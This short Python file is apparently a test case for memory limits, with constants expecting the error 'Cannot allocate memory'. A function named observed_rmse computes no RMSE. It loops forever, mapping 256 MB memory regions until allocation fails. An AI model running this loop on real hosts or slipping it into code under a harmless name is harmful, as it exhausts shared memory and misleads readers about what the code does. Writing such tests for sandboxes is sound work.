"""Maps memory in shares that no list of Python holds."""

import mmap

STATES = {"1.5": "memory"}
SCORE = 5
SAYS = "Cannot allocate memory"


def observed_rmse(ratings, predictions):
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 256 << 20))
        kept[-1][-1] = 1
